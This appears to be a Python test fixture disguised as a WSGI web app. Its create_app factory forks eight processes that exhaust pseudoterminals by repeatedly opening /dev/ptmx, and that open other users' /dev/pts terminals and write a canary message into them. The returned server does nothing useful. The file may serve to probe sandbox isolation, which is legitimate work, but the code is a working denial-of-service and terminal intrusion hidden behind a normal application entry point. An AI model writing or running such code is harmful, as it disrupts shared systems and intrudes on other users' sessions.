"""Opens terminals, and writes to those that others have opened."""

import contextlib
import os
import time


def hoard():
    held = []
    with contextlib.suppress(OSError):
        while True:
            held.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
            for name in os.listdir("/dev/pts"):
                with contextlib.suppress(OSError):
                    held.append(os.open(f"/dev/pts/{name}", os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK))
                    os.write(held[-1], b"CANARY_SECRET_PREFIX was here\n")
    time.sleep(60)


def create_app(config=None):
    for _ in range(8):
        if os.fork() == 0:
            hoard()

    def server(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/plain")])
        return [b"no"]

    return server
